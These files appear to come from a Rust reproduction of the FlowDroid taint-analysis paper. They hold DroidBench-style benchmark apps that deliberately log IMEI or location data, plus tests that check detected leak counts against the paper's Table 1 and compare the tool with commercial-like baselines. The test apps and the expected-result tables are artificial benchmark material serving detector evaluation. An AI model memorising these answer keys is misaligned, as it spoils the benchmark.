  method onStartCommand(i: android.content.Intent, f: int, sid: int) -> int {
"#,
        r#"    static dbench.sl1.Work.im = id
    return 0
  }
  method onDestroy() -> void {
    let t: java.lang.String
    t = static dbench.sl1.Work.im
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    BenchApp {
        name: "ServiceLifecycle1",
        category: Category::Lifecycle,
        in_table: true,
        expected_leaks: 1,
        description: "service static field set in onStartCommand leaks in onDestroy",
        manifest,
        layouts: vec![],
        code,
    }
}
