//! Callbacks: UI handlers, listeners registered in code, overridden
//! framework methods. These require the callback discovery and
//! per-component association of paper §3.

use super::with_imei;
use crate::{single_activity_manifest, BenchApp, Category};

pub fn apps() -> Vec<BenchApp> {
    vec![
        anonymous_class1(),
        button1(),
        button2(),
        location_leak1(),
        location_leak2(),
        method_override1(),
    ]
}

/// A separately-declared listener class (standing in for Java's
/// anonymous class) registered imperatively; its callback leaks both
/// location coordinates. Two real leaks.
fn anonymous_class1() -> BenchApp {
    let code = r#"
class dbench.anon1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let o: java.lang.Object
    let lm: android.location.LocationManager
    let l: dbench.anon1.Listener
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("location")
    lm = (android.location.LocationManager) o
    l = new dbench.anon1.Listener
    specialinvoke l.<dbench.anon1.Listener: void <init>()>()
    virtualinvoke lm.<android.location.LocationManager: void requestLocationUpdates(java.lang.String,long,float,android.location.LocationListener)>("gps", 0, 0, l)
    return
  }
}
class dbench.anon1.Listener extends java.lang.Object implements android.location.LocationListener {
  method <init>() -> void {
    return
  }
  method onLocationChanged(loc: android.location.Location) -> void {
    let lat: double
    let lon: double
    let s1: java.lang.String
    let s2: java.lang.String
    lat = virtualinvoke loc.<android.location.Location: double getLatitude()>()
    lon = virtualinvoke loc.<android.location.Location: double getLongitude()>()
    s1 = staticinvoke <java.lang.String: java.lang.String valueOf(java.lang.Object)>(loc)
    s2 = virtualinvoke loc.<java.lang.Object: java.lang.String toString()>()
    staticinvoke <android.util.Log: int d(java.lang.String,java.lang.String)>("Lat", s1)
    staticinvoke <android.util.Log: int d(java.lang.String,java.lang.String)>("Lon", s2)
    return
  }
}
"#
    .to_owned();
    BenchApp {
        name: "AnonymousClass1",
        category: Category::Callbacks,
        in_table: true,
        expected_leaks: 2,
        description: "imperatively registered listener class leaks location twice",
        manifest: single_activity_manifest("dbench.anon1", "Main"),
        layouts: vec![],
        code,
    }
}

const BUTTON_LAYOUT: &str = r#"<LinearLayout xmlns:android="http://schemas.android.com/apk/res/android">
  <Button android:id="@+id/button1" android:onClick="clickHandler"/>
</LinearLayout>"#;

/// An XML-declared click handler leaks the IMEI.
fn button1() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.btn1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/main)
    return
  }
  method clickHandler(v: android.view.View) -> void {
"#,
        r#"    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    return
  }
}
"#,
    );
    BenchApp {
        name: "Button1",
        category: Category::Callbacks,
        in_table: true,
        expected_leaks: 1,
        description: "XML onClick handler leaks the IMEI",
        manifest: single_activity_manifest("dbench.btn1", "Main"),
        layouts: vec![("main", BUTTON_LAYOUT)],
        code,
    }
}

const BUTTON2_LAYOUT: &str = r#"<LinearLayout xmlns:android="http://schemas.android.com/apk/res/android">
  <Button android:id="@+id/b1" android:onClick="storeImei"/>
  <Button android:id="@+id/b2" android:onClick="overwriteAndLeak"/>
  <Button android:id="@+id/b3" android:onClick="leakField"/>
</LinearLayout>"#;

/// Three handlers: one taints a field, one overwrites it with clean
/// data before leaking (no real leak — but FlowDroid cannot perform the
/// strong update, a documented false positive), one leaks the field
/// directly (real leak).
fn button2() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.btn2.Main extends android.app.Activity {
  field im: java.lang.String
  method onCreate(b: android.os.Bundle) -> void {
    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/main)
    return
  }
  method storeImei(v: android.view.View) -> void {
"#,
        r#"    this.im = id
    return
  }
  method overwriteAndLeak(v: android.view.View) -> void {
    let t: java.lang.String
    this.im = "clean"
    t = this.im
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
  method leakField(v: android.view.View) -> void {
    let t: java.lang.String
    t = this.im
    staticinvoke <android.util.Log: int d(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    BenchApp {
        name: "Button2",
        category: Category::Callbacks,
        in_table: true,
        expected_leaks: 1,
        description: "field overwritten with clean data before one sink (needs strong updates)",
        manifest: single_activity_manifest("dbench.btn2", "Main"),
        layouts: vec![("main", BUTTON2_LAYOUT)],
        code,
    }
}

/// The activity itself implements LocationListener; the callback stores
/// both coordinates in fields, leaked later in the lifecycle.
fn location_leak1() -> BenchApp {
    let code = r#"
class dbench.loc1.Main extends android.app.Activity implements android.location.LocationListener {
  field lat: java.lang.String
  field lon: java.lang.String
  method onCreate(b: android.os.Bundle) -> void {
    let o: java.lang.Object
    let lm: android.location.LocationManager
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("location")
    lm = (android.location.LocationManager) o
    virtualinvoke lm.<android.location.LocationManager: void requestLocationUpdates(java.lang.String,long,float,android.location.LocationListener)>("gps", 0, 0, this)
    return
  }
  method onLocationChanged(loc: android.location.Location) -> void {
    let s1: java.lang.String
    let s2: java.lang.String
    s1 = staticinvoke <java.lang.String: java.lang.String valueOf(java.lang.Object)>(loc)
    s2 = virtualinvoke loc.<java.lang.Object: java.lang.String toString()>()
    this.lat = s1
    this.lon = s2
    return
  }
  method onResume() -> void {
    let a: java.lang.String
    let b: java.lang.String
    a = this.lat
    b = this.lon
    staticinvoke <android.util.Log: int d(java.lang.String,java.lang.String)>("Lat", a)
    staticinvoke <android.util.Log: int d(java.lang.String,java.lang.String)>("Lon", b)
    return
  }
}
"#
    .to_owned();
    BenchApp {
        name: "LocationLeak1",
        category: Category::Callbacks,
        in_table: true,
        expected_leaks: 2,
        description: "activity-as-listener stores coordinates in fields, leaks in onResume",
        manifest: single_activity_manifest("dbench.loc1", "Main"),
        layouts: vec![],
        code,
    }
}

/// Like LocationLeak1, but the leak happens in a different callback
/// (onProviderDisabled), exercising callback-to-callback flows.
fn location_leak2() -> BenchApp {
    let code = r#"
class dbench.loc2.Main extends android.app.Activity implements android.location.LocationListener {
  field lat: java.lang.String
  field lon: java.lang.String
  method onCreate(b: android.os.Bundle) -> void {
    let o: java.lang.Object
    let lm: android.location.LocationManager
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("location")
    lm = (android.location.LocationManager) o
    virtualinvoke lm.<android.location.LocationManager: void requestLocationUpdates(java.lang.String,long,float,android.location.LocationListener)>("gps", 0, 0, this)
    return
  }
  method onLocationChanged(loc: android.location.Location) -> void {
    let s1: java.lang.String
    let s2: java.lang.String
    s1 = staticinvoke <java.lang.String: java.lang.String valueOf(java.lang.Object)>(loc)
    s2 = virtualinvoke loc.<java.lang.Object: java.lang.String toString()>()
    this.lat = s1
    this.lon = s2
    return
  }
  method onProviderDisabled(p: java.lang.String) -> void {
    let a: java.lang.String
    let b: java.lang.String
    a = this.lat
    b = this.lon
    staticinvoke <android.util.Log: int d(java.lang.String,java.lang.String)>("Lat", a)
    staticinvoke <android.util.Log: int d(java.lang.String,java.lang.String)>("Lon", b)
    return
  }
}
"#
    .to_owned();
    BenchApp {
        name: "LocationLeak2",
        category: Category::Callbacks,
        in_table: true,
        expected_leaks: 2,
        description: "coordinates stored in one callback leak in another callback",
        manifest: single_activity_manifest("dbench.loc2", "Main"),
        layouts: vec![],
        code,
    }
}

/// The activity overrides a non-lifecycle framework method
/// (onLowMemory); the framework may invoke it at any time.
fn method_override1() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.ovr1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    return
  }
  method onLowMemory() -> void {
"#,
        r#"    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    return
  }
}
"#,
    );
    BenchApp {
        name: "MethodOverride1",
        category: Category::Callbacks,
        in_table: true,
        expected_leaks: 1,
        description: "overridden framework method (onLowMemory) leaks the IMEI",
        manifest: single_activity_manifest("dbench.ovr1", "Main"),
        layouts: vec![],
        code,
    }
}
