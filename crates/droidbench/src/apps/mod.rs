//! The app registry, organized by Table-1 category.

mod arrays;
mod callbacks;
mod extended;
mod general;
mod interapp;
mod lifecycle;
mod misc;
mod sensitivity;
mod supplementary;

use crate::BenchApp;

/// All suite apps in Table-1 order: the 35 table apps, the 4
/// supplementary apps completing the advertised 39, and the 6 extended
/// apps (chained callbacks, providers, bound services, …).
pub fn all_apps() -> Vec<BenchApp> {
    let mut out = Vec::new();
    out.extend(arrays::apps());
    out.extend(callbacks::apps());
    out.extend(sensitivity::apps());
    out.extend(interapp::apps());
    out.extend(lifecycle::apps());
    out.extend(general::apps());
    out.extend(misc::apps());
    out.extend(supplementary::apps());
    out.extend(extended::apps());
    out
}

/// The IMEI-acquisition snippet used throughout the suite (assumes an
/// activity/service receiver and locals `o`, `tm`, `id`).
pub(crate) const GET_IMEI: &str = r#"    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
"#;

/// Splices the IMEI-acquisition snippet between a method prefix and a
/// suffix.
pub(crate) fn with_imei(prefix: &str, suffix: &str) -> String {
    format!("{prefix}{IMEI_LOCALS}{GET_IMEI}{suffix}")
}

/// Declarations for the IMEI snippet.
pub(crate) const IMEI_LOCALS: &str = r#"    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
"#;
