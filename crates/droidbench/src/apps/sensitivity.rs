//! Field and Object Sensitivity: distinguishing fields of one object
//! and objects from different allocation sites (paper §2).

use super::with_imei;
use crate::{single_activity_manifest, BenchApp, Category};

pub fn apps() -> Vec<BenchApp> {
    vec![
        field_sensitivity1(),
        field_sensitivity2(),
        field_sensitivity3(),
        field_sensitivity4(),
        inherited_objects1(),
        object_sensitivity1(),
        object_sensitivity2(),
    ]
}

const DATA_CLASS: &str = r#"
class dbench.sens.Data extends java.lang.Object {
  field secret: java.lang.String
  field pub: java.lang.String
  method <init>() -> void {
    return
  }
  method setSecret(s: java.lang.String) -> void {
    this.secret = s
    return
  }
  method setPub(s: java.lang.String) -> void {
    this.pub = s
    return
  }
  method getSecret() -> java.lang.String {
    let s: java.lang.String
    s = this.secret
    return s
  }
  method getPub() -> java.lang.String {
    let s: java.lang.String
    s = this.pub
    return s
  }
}
"#;

/// Tainted data in one field, the *other* (clean) field is leaked
/// directly. No leak; field-insensitive tools false-alarm here.
fn field_sensitivity1() -> BenchApp {
    let mut code = with_imei(
        r#"
class dbench.fs1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let d: dbench.sens.Data
    let t: java.lang.String
    d = new dbench.sens.Data
    specialinvoke d.<dbench.sens.Data: void <init>()>()
    d.secret = id
    d.pub = "plain"
    t = d.pub
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    code.push_str(DATA_CLASS);
    BenchApp {
        name: "FieldSensitivity1",
        category: Category::FieldObjectSensitivity,
        in_table: true,
        expected_leaks: 0,
        description: "clean sibling field leaked, tainted field untouched (direct access)",
        manifest: single_activity_manifest("dbench.fs1", "Main"),
        layouts: vec![],
        code,
    }
}

/// Like FieldSensitivity1, but through setter/getter methods.
fn field_sensitivity2() -> BenchApp {
    let mut code = with_imei(
        r#"
class dbench.fs2.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let d: dbench.sens.Data
    let t: java.lang.String
    d = new dbench.sens.Data
    specialinvoke d.<dbench.sens.Data: void <init>()>()
    virtualinvoke d.<dbench.sens.Data: void setSecret(java.lang.String)>(id)
    virtualinvoke d.<dbench.sens.Data: void setPub(java.lang.String)>("plain")
    t = virtualinvoke d.<dbench.sens.Data: java.lang.String getPub()>()
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    code.push_str(DATA_CLASS);
    BenchApp {
        name: "FieldSensitivity2",
        category: Category::FieldObjectSensitivity,
        in_table: true,
        expected_leaks: 0,
        description: "clean sibling field leaked via accessor methods",
        manifest: single_activity_manifest("dbench.fs2", "Main"),
        layouts: vec![],
        code,
    }
}

/// The tainted field itself is leaked through accessors — a real leak.
fn field_sensitivity3() -> BenchApp {
    let mut code = with_imei(
        r#"
class dbench.fs3.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let d: dbench.sens.Data
    let t: java.lang.String
    d = new dbench.sens.Data
    specialinvoke d.<dbench.sens.Data: void <init>()>()
    virtualinvoke d.<dbench.sens.Data: void setSecret(java.lang.String)>(id)
    virtualinvoke d.<dbench.sens.Data: void setPub(java.lang.String)>("plain")
    t = virtualinvoke d.<dbench.sens.Data: java.lang.String getSecret()>()
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    code.push_str(DATA_CLASS);
    BenchApp {
        name: "FieldSensitivity3",
        category: Category::FieldObjectSensitivity,
        in_table: true,
        expected_leaks: 1,
        description: "tainted field leaked via accessor methods",
        manifest: single_activity_manifest("dbench.fs3", "Main"),
        layouts: vec![],
        code,
    }
}

/// A deep field chain (wrapper.inner.secret) carries the taint — the
/// paper's motivation for access paths of length 5.
fn field_sensitivity4() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.fs4.Outer extends java.lang.Object {
  field inner: dbench.fs4.Inner
  method <init>() -> void {
    return
  }
}
class dbench.fs4.Inner extends java.lang.Object {
  field secret: java.lang.String
  field pub: java.lang.String
  method <init>() -> void {
    return
  }
}
class dbench.fs4.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let w: dbench.fs4.Outer
    let i: dbench.fs4.Inner
    let j: dbench.fs4.Inner
    let t: java.lang.String
    let u: java.lang.String
    w = new dbench.fs4.Outer
    specialinvoke w.<dbench.fs4.Outer: void <init>()>()
    i = new dbench.fs4.Inner
    specialinvoke i.<dbench.fs4.Inner: void <init>()>()
    w.inner = i
    i.secret = id
    i.pub = "plain"
    j = w.inner
    u = j.pub
    staticinvoke <android.util.Log: int d(java.lang.String,java.lang.String)>("OK", u)
    t = j.secret
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    BenchApp {
        name: "FieldSensitivity4",
        category: Category::FieldObjectSensitivity,
        in_table: true,
        expected_leaks: 1,
        description: "taint through a two-level field chain; the clean sibling stays clean",
        manifest: single_activity_manifest("dbench.fs4", "Main"),
        layouts: vec![],
        code,
    }
}

/// Virtual dispatch picks the data provider: one subclass returns the
/// IMEI, the other a constant; the choice is made on an opaque
/// condition, so the tainted variant is reachable — a real leak.
fn inherited_objects1() -> BenchApp {
    let code = r#"
class dbench.inh1.General extends java.lang.Object {
  method <init>() -> void {
    return
  }
  method obtain(t: android.telephony.TelephonyManager) -> java.lang.String {
    return "none"
  }
}
class dbench.inh1.VarA extends dbench.inh1.General {
  method <init>() -> void {
    return
  }
  method obtain(t: android.telephony.TelephonyManager) -> java.lang.String {
    let s: java.lang.String
    s = virtualinvoke t.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    return s
  }
}
class dbench.inh1.VarB extends dbench.inh1.General {
  method <init>() -> void {
    return
  }
  method obtain(t: android.telephony.TelephonyManager) -> java.lang.String {
    return "constant"
  }
}
class dbench.inh1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let g: dbench.inh1.General
    let s: java.lang.String
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    if opaque goto useB
    g = new dbench.inh1.VarA
    specialinvoke g.<dbench.inh1.VarA: void <init>()>()
    goto done
  label useB:
    g = new dbench.inh1.VarB
    specialinvoke g.<dbench.inh1.VarB: void <init>()>()
  label done:
    s = virtualinvoke g.<dbench.inh1.General: java.lang.String obtain(android.telephony.TelephonyManager)>(tm)
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", s)
    return
  }
}
"#
    .to_owned();
    BenchApp {
        name: "InheritedObjects1",
        category: Category::FieldObjectSensitivity,
        in_table: true,
        expected_leaks: 1,
        description: "virtual dispatch selects a tainted or clean provider subclass",
        manifest: single_activity_manifest("dbench.inh1", "Main"),
        layouts: vec![],
        code,
    }
}

/// Two instances of the same class; only the first gets tainted data,
/// the second is leaked. No real leak; object-insensitive analyses
/// false-alarm.
fn object_sensitivity1() -> BenchApp {
    let mut code = with_imei(
        r#"
class dbench.os1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let d1: dbench.sens.Data
    let d2: dbench.sens.Data
    let t: java.lang.String
    d1 = new dbench.sens.Data
    specialinvoke d1.<dbench.sens.Data: void <init>()>()
    d2 = new dbench.sens.Data
    specialinvoke d2.<dbench.sens.Data: void <init>()>()
    d1.secret = id
    d2.secret = "plain"
    t = d2.secret
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    code.push_str(DATA_CLASS);
    BenchApp {
        name: "ObjectSensitivity1",
        category: Category::FieldObjectSensitivity,
        in_table: true,
        expected_leaks: 0,
        description: "two allocation sites; the clean instance's field is leaked",
        manifest: single_activity_manifest("dbench.os1", "Main"),
        layouts: vec![],
        code,
    }
}

/// Like ObjectSensitivity1, but the instances travel through setter
/// methods, requiring context-sensitive summaries to keep them apart.
fn object_sensitivity2() -> BenchApp {
    let mut code = with_imei(
        r#"
class dbench.os2.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let d1: dbench.sens.Data
    let d2: dbench.sens.Data
    let t: java.lang.String
    d1 = new dbench.sens.Data
    specialinvoke d1.<dbench.sens.Data: void <init>()>()
    d2 = new dbench.sens.Data
    specialinvoke d2.<dbench.sens.Data: void <init>()>()
    virtualinvoke d1.<dbench.sens.Data: void setSecret(java.lang.String)>(id)
    virtualinvoke d2.<dbench.sens.Data: void setSecret(java.lang.String)>("plain")
    t = virtualinvoke d2.<dbench.sens.Data: java.lang.String getSecret()>()
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    code.push_str(DATA_CLASS);
    BenchApp {
        name: "ObjectSensitivity2",
        category: Category::FieldObjectSensitivity,
        in_table: true,
        expected_leaks: 0,
        description: "clean instance leaked; both instances share accessor summaries",
        manifest: single_activity_manifest("dbench.os2", "Main"),
        layouts: vec![],
        code,
    }
}
