//! Table 1's comparison shape: FlowDroid must dominate both commercial
//! baselines in recall (93% vs 61% vs 50% in the paper) with at least
//! comparable precision, and the tools must order
//! FlowDroid > Fortify > AppScan on both recall and F-measure.

use flowdroid_android::install_platform;
use flowdroid_baselines::BaselineTool;
use flowdroid_core::{Infoflow, InfoflowConfig, SourceSinkManager, TaintWrapper};
use flowdroid_droidbench::{all_apps, AppScore, BenchApp};
use flowdroid_ir::Program;

fn run_baseline(tool: BaselineTool, app: &BenchApp) -> usize {
    let mut p = Program::new();
    let platform = install_platform(&mut p);
    let loaded = app.load(&mut p).unwrap();
    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    flowdroid_baselines::analyze_app(tool, &mut p, &platform, &loaded, &sources, &wrapper)
        .leak_count()
}

fn run_flowdroid(app: &BenchApp) -> usize {
    let mut p = Program::new();
    let platform = install_platform(&mut p);
    let loaded = app.load(&mut p).unwrap();
    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    Infoflow::new(&sources, &wrapper, &config)
        .analyze_app(&mut p, &platform, &loaded, "t")
        .results
        .leak_count()
}

fn table_score(run: impl Fn(&BenchApp) -> usize) -> AppScore {
    let mut total = AppScore::default();
    for app in all_apps().iter().filter(|a| a.in_table) {
        total.add(AppScore::from_counts(app.expected_leaks, run(app)));
    }
    total
}

#[test]
fn tool_ordering_matches_the_paper() {
    let fd = table_score(run_flowdroid);
    let fortify = table_score(|a| run_baseline(BaselineTool::FortifyLike, a));
    let appscan = table_score(|a| run_baseline(BaselineTool::AppScanLike, a));

    // Recall ordering: FlowDroid > Fortify > AppScan.
    assert!(
        fd.recall() > fortify.recall() && fortify.recall() > appscan.recall(),
        "recall order: FlowDroid {:.2} > Fortify {:.2} > AppScan {:.2}",
        fd.recall(),
        fortify.recall(),
        appscan.recall()
    );
    // FlowDroid's recall is dramatic (93% in the paper), the baselines
    // sit far below.
    assert!(fd.recall() > 0.90, "FlowDroid recall {:.2}", fd.recall());
    assert!(fortify.recall() < 0.70, "Fortify-like recall {:.2}", fortify.recall());
    assert!(appscan.recall() < 0.55, "AppScan-like recall {:.2}", appscan.recall());
    // FlowDroid's precision is at least as good as both baselines.
    assert!(
        fd.precision() >= fortify.precision() && fd.precision() >= appscan.precision(),
        "precision: FlowDroid {:.2}, Fortify {:.2}, AppScan {:.2}",
        fd.precision(),
        fortify.precision(),
        appscan.precision()
    );
    // F-measure ordering as in Table 1 (0.89 / 0.70 / 0.60).
    assert!(fd.f_measure() > fortify.f_measure());
    assert!(fortify.f_measure() > appscan.f_measure());
}

#[test]
fn fortify_quirk_finds_static_lifecycle_leaks_only() {
    // Paper: "Fortify detects 4 out of 6 data leaks for the lifecycle
    // tests, but … only happens by chance" via static fields.
    let apps = all_apps();
    let by_name = |n: &str| apps.iter().find(|a| a.name == n).unwrap();
    for name in ["ActivityLifecycle1", "ActivityLifecycle2", "ActivityLifecycle4", "ServiceLifecycle1"]
    {
        assert_eq!(
            run_baseline(BaselineTool::FortifyLike, by_name(name)),
            1,
            "{name}: Fortify's static-field quirk reports this"
        );
        assert_eq!(
            run_baseline(BaselineTool::AppScanLike, by_name(name)),
            0,
            "{name}: AppScan has no static channel"
        );
    }
    // The instance-field and receiver variants stay invisible to both.
    for name in ["ActivityLifecycle3", "BroadcastReceiverLifecycle1"] {
        assert_eq!(run_baseline(BaselineTool::FortifyLike, by_name(name)), 0, "{name}");
        assert_eq!(run_baseline(BaselineTool::AppScanLike, by_name(name)), 0, "{name}");
    }
}

#[test]
fn baselines_miss_callbacks_entirely() {
    let apps = all_apps();
    let by_name = |n: &str| apps.iter().find(|a| a.name == n).unwrap();
    for name in ["Button1", "LocationLeak1", "AnonymousClass1", "MethodOverride1"] {
        assert_eq!(run_baseline(BaselineTool::AppScanLike, by_name(name)), 0, "{name}");
        assert_eq!(run_baseline(BaselineTool::FortifyLike, by_name(name)), 0, "{name}");
    }
}

#[test]
fn baselines_false_alarm_on_inactive_activity() {
    let apps = all_apps();
    let app = apps.iter().find(|a| a.name == "InactiveActivity").unwrap();
    assert_eq!(run_baseline(BaselineTool::AppScanLike, app), 1);
    assert_eq!(run_flowdroid(app), 0, "FlowDroid honors android:enabled");
}
