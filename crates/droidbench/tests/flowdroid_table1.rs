//! The reproduction's headline check: running the reproduced FlowDroid
//! over DroidBench must match the paper's Table 1 FlowDroid column —
//! per app and in aggregate (26 TP / 4 FP / 2 misses, 86% precision,
//! 93% recall).

use flowdroid_android::install_platform;
use flowdroid_core::{Infoflow, InfoflowConfig, SourceSinkManager, TaintWrapper};
use flowdroid_droidbench::{all_apps, AppScore, BenchApp};
use flowdroid_ir::Program;
use std::collections::HashMap;

fn run_flowdroid(app: &BenchApp) -> usize {
    let mut p = Program::new();
    let platform = install_platform(&mut p);
    let loaded = app.load(&mut p).unwrap_or_else(|e| panic!("{}: {e}", app.name));
    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    let infoflow = Infoflow::new(&sources, &wrapper, &config);
    let analysis = infoflow.analyze_app(&mut p, &platform, &loaded, "t");
    analysis.results.leak_count()
}

/// The paper's FlowDroid column: leaks *reported* per app.
fn expected_reported() -> HashMap<&'static str, usize> {
    let mut m = HashMap::new();
    // Arrays and Lists — three false positives (index-insensitive).
    m.insert("ArrayAccess1", 1);
    m.insert("ArrayAccess2", 1);
    m.insert("ListAccess1", 1);
    // Callbacks.
    m.insert("AnonymousClass1", 2);
    m.insert("Button1", 1);
    m.insert("Button2", 2); // 1 real + 1 FP (no strong updates)
    m.insert("LocationLeak1", 2);
    m.insert("LocationLeak2", 2);
    m.insert("MethodOverride1", 1);
    // Field and Object Sensitivity.
    m.insert("FieldSensitivity1", 0);
    m.insert("FieldSensitivity2", 0);
    m.insert("FieldSensitivity3", 1);
    m.insert("FieldSensitivity4", 1);
    m.insert("InheritedObjects1", 1);
    m.insert("ObjectSensitivity1", 0);
    m.insert("ObjectSensitivity2", 0);
    // Inter-App Communication.
    m.insert("IntentSink1", 0); // documented miss
    m.insert("IntentSink2", 1);
    m.insert("ActivityCommunication1", 1);
    // Lifecycle.
    m.insert("BroadcastReceiverLifecycle1", 1);
    m.insert("ActivityLifecycle1", 1);
    m.insert("ActivityLifecycle2", 1);
    m.insert("ActivityLifecycle3", 1);
    m.insert("ActivityLifecycle4", 1);
    m.insert("ServiceLifecycle1", 1);
    // General Java.
    m.insert("Loop1", 1);
    m.insert("Loop2", 1);
    m.insert("SourceCodeSpecific1", 1);
    m.insert("StaticInitialization1", 0); // documented miss
    m.insert("UnreachableCode", 0);
    // Miscellaneous Android-Specific.
    m.insert("PrivateDataLeak1", 1);
    m.insert("PrivateDataLeak2", 1);
    m.insert("DirectLeak1", 1);
    m.insert("InactiveActivity", 0);
    m.insert("LogNoLeak", 0);
    // Supplementary (outside Table 1).
    m.insert("ImplicitFlow1", 0); // implicit flows excluded by design
    m.insert("Reflection1", 0); // documented limitation
    m.insert("Casting1", 1);
    m.insert("Exceptions1", 1);
    // Extended suite.
    m.insert("CallbackChain1", 1); // fixed-point callback discovery
    m.insert("IntentSource1", 1);
    m.insert("ServiceBound1", 1);
    m.insert("ProviderQuery1", 1);
    m.insert("PrivateDataLeak3", 1);
    m.insert("UnregisteredComponent", 0);
    m
}

#[test]
fn flowdroid_matches_table1_per_app() {
    let expected = expected_reported();
    let mut failures = Vec::new();
    for app in all_apps() {
        let found = run_flowdroid(&app);
        let want = expected[app.name];
        if found != want {
            failures.push(format!("{}: reported {found}, paper says {want}", app.name));
        }
    }
    assert!(failures.is_empty(), "per-app mismatches:\n{}", failures.join("\n"));
}

#[test]
fn flowdroid_aggregate_matches_table1() {
    let mut total = AppScore::default();
    for app in all_apps().iter().filter(|a| a.in_table) {
        let found = run_flowdroid(app);
        total.add(AppScore::from_counts(app.expected_leaks, found));
    }
    assert_eq!(total.tp, 26, "Table 1: 26 correct warnings");
    assert_eq!(total.fp, 4, "Table 1: 4 false warnings");
    assert_eq!(total.fn_, 2, "Table 1: 2 missed leaks");
    assert!((total.precision() - 0.867).abs() < 0.01, "precision ≈ 86%");
    assert!((total.recall() - 0.929).abs() < 0.01, "recall ≈ 93%");
    assert!((total.f_measure() - 0.89).abs() < 0.01, "F ≈ 0.89");
}

#[test]
fn insecurebank_finds_exactly_seven_leaks() {
    let app = flowdroid_droidbench::insecurebank::insecure_bank();
    let found = run_flowdroid(&app);
    assert_eq!(found, 7, "RQ2: all seven leaks, no false positives");
}
