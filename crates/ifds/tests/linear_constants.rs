//! Linear constant propagation — the canonical IDE instantiation
//! (Sagiv–Reps–Horwitz 1996, the paper's reference [34]). Facts are
//! "local is relevant", values are elements of the constant lattice
//! ⊤ (unknown) / Const(c) / ⊥ (non-constant), edge functions are the
//! linear maps λv. a·v + b.

use flowdroid_callgraph::{CallGraph, CgAlgorithm, Icfg};
use flowdroid_ifds::{EdgeTransfer, IdeProblem, IdeSolver, IfdsProblem};
use flowdroid_ir::{
    BinOp, Constant, Local, MethodBuilder, MethodId, Operand, Place, Program, Rvalue, Stmt,
    StmtRef, Type,
};

// ===================== the lattice =====================

#[derive(Clone, PartialEq, Eq, Debug)]
enum Val {
    Top,
    Const(i64),
    Bottom,
}

// ===================== edge functions =====================

/// λv. match self { Id → v, Linear(a,b) → a·v+b, ConstFn(c) → c, Bot → ⊥ }
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
enum Lin {
    Id,
    Linear(i64, i64),
    ConstFn(i64),
    Bot,
}

impl EdgeTransfer<Val> for Lin {
    fn identity() -> Self {
        Lin::Id
    }

    fn apply(&self, v: &Val) -> Val {
        match self {
            Lin::Id => v.clone(),
            Lin::ConstFn(c) => Val::Const(*c),
            Lin::Bot => Val::Bottom,
            Lin::Linear(a, b) => match v {
                Val::Top => Val::Top,
                Val::Const(c) => Val::Const(a * c + b),
                Val::Bottom => Val::Bottom,
            },
        }
    }

    fn compose(&self, after: &Self) -> Self {
        match (self, after) {
            (_, Lin::ConstFn(c)) => Lin::ConstFn(*c),
            (_, Lin::Bot) | (Lin::Bot, _) => Lin::Bot,
            (f, Lin::Id) => f.clone(),
            (Lin::Id, g) => g.clone(),
            (Lin::ConstFn(c), Lin::Linear(a, b)) => Lin::ConstFn(a * c + b),
            (Lin::Linear(a1, b1), Lin::Linear(a2, b2)) => {
                Lin::Linear(a1 * a2, a2 * b1 + b2)
            }
        }
    }

    fn join(&self, other: &Self) -> Self {
        if self == other {
            self.clone()
